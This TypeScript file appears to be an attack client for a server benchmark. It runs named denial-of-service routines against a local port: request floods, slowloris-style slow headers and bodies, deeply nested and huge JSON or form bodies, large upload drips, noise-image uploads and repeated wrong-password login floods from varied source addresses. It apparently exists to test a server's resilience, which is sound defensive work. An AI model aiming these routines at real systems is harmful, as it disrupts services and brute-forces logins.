// A client that harms: sends what `bench/attack.ts` names, from a process of its own, until it is killed.
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import sharp from 'sharp'

const [kind = '', port = '', path = ''] = process.argv.slice(2)
const REQUEST = `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`

/** A connection from one of many networks, /24 of the loopback range. */
function open(network = 0): Socket {
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: `127.0.${network}.1` })
  socket.on('error', () => {})
  return socket
}

const times = (count: number, begin: (nth: number) => unknown) => {
  for (let at = 0; at < count; at++) begin(at)
}

/** Some requests in one packet; the connection is closed after 0.3 seconds, and it begins again. */
async function sendPackets(requests: string): Promise<never> {
  for (;;) {
    const socket = open().resume()
    socket.write(requests)
    await wait(300)
    socket.destroy()
  }
}

/** Sends again whenever there is an answer, or the connection has ended. */
function sendForEver(request: Buffer | string, network = 0): void {
  const socket = open(network)
  socket.on('data', () => socket.write(request))
  socket.once('close', () => setTimeout(() => sendForEver(request, network), 10))
  socket.write(request)
}

/** Asks for many answers and reads none; whether the server has ended the connection is not seen then, so it begins again. */
function neverRead(requests: number, again: number): void {
  const socket = open()
  socket.pause()
  socket.write(REQUEST.repeat(requests))
  setTimeout(() => {
    socket.destroy()
    neverRead(requests, again)
  }, again)
}

const post = (to: string, type: string, body: Buffer | string, length = Buffer.byteLength(body)) =>
  Buffer.concat([
    Buffer.from(`POST ${to} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`),
    Buffer.from(body),
  ])

/** Sends one byte after the other, four a second, and begins again when the connection has ended. */
function drip(begin: Buffer | string, network: number): void {
  const socket = open(network).resume()
  socket.write(begin)
  const timer = setInterval(() => socket.write('a'), 250)
  socket.once('close', () => {
    clearInterval(timer)
    setTimeout(() => drip(begin, network), 50)
  })
}

const LETTER = '/api/cms/proposal'
const PHOTO = '/api/cms/proposal/photo'
const FORM = '/api/cms/proposal/photo/view'
const names = (count: number) => Array.from({ length: count }, (_, at) => `k${at}=`).join('&')
const form = (count: number) => post(FORM, 'application/x-www-form-urlencoded', names(count))
const json = (body: string) => post(LETTER, 'application/json', body)
const deep = () => json('['.repeat(500_000) + ']'.repeat(500_000))
const wide = () => json(`{${Array.from({ length: 80_000 }, (_, at) => `"k${at}":1`).join()}}`)
const multipart = (bytes: Buffer | string, length?: number) => {
  const head = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n'
  const body = Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from('\r\n--x--\r\n')])
  return post(PHOTO, 'multipart/form-data; boundary=x', length === undefined ? body : head, length)
}
let attempts = 0
const login = () =>
  post('/prod-api/login', 'application/json', `{"username":"u${attempts++}","password":"wrong-${attempts}"}`)

/** A login with another name whenever there is an answer. */
function logInForEver(network: number): void {
  const socket = open(network)
  socket.on('data', () => socket.write(login()))
  socket.once('close', () => setTimeout(() => logInForEver(network), 10))
  socket.write(login())
}

/** A picture of 12 megapixels in which no pixel is like another. */
async function noise(): Promise<Buffer> {
  const [width, height] = [4000, 3000]
  const raw = Buffer.alloc(width * height * 3)
  for (let at = 0; at < raw.length; at++) raw[at] = (at * 2_654_435_761) >>> 13
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 60 })
    .toBuffer()
}

const kinds: Record<string, () => unknown> = {
  twelve: () => sendPackets(REQUEST.repeat(12)),
  eight: () => sendPackets(REQUEST.repeat(8)),
  search: () => times(24, () => sendForEver(REQUEST)),
  search32: () => times(32, () => sendForEver(REQUEST)),
  networks: () => times(40, (nth) => sendForEver(REQUEST, nth + 1)),
  unread: () => times(20, () => neverRead(900, 4000)),
  patient: () => times(20, () => neverRead(8, 60_000)),
  form: () => sendForEver(form(50_000)),
  forms: () => times(8, () => sendForEver(form(115_000))),
  deepPacket: () => sendPackets(deep().toString().repeat(8)),
  deep8: () => times(8, () => sendForEver(deep())),
  deep64: () => times(64, () => sendForEver(deep())),
  wide8: () => times(8, () => sendForEver(wide())),
  slowHeaders: () => times(900, (nth) => drip('GET / HTTP/1.1\r\nHost: x\r\nX-A: ', nth % 4)),
  slowBodies: () => times(400, (nth) => drip(post(LETTER, 'application/json', '{"a":"', 9000), nth % 4)),
  login: () => times(32, () => logInForEver(0)),
  logins: () => times(80, (nth) => logInForEver(nth + 1)),
  uploads: () => times(24, (nth) => drip(multipart('', 9_000_000), 1 + (nth % 2))),
  photos: async () => {
    const photo = multipart(await noise())
    times(20, (nth) => sendForEver(photo, nth + 1))
  },
}
if (!kinds[kind]) throw new Error(`no attack is called ${kind}`)
if (kind === 'photos') await kinds[kind]()
else kinds[kind]()
process.send?.('begun')
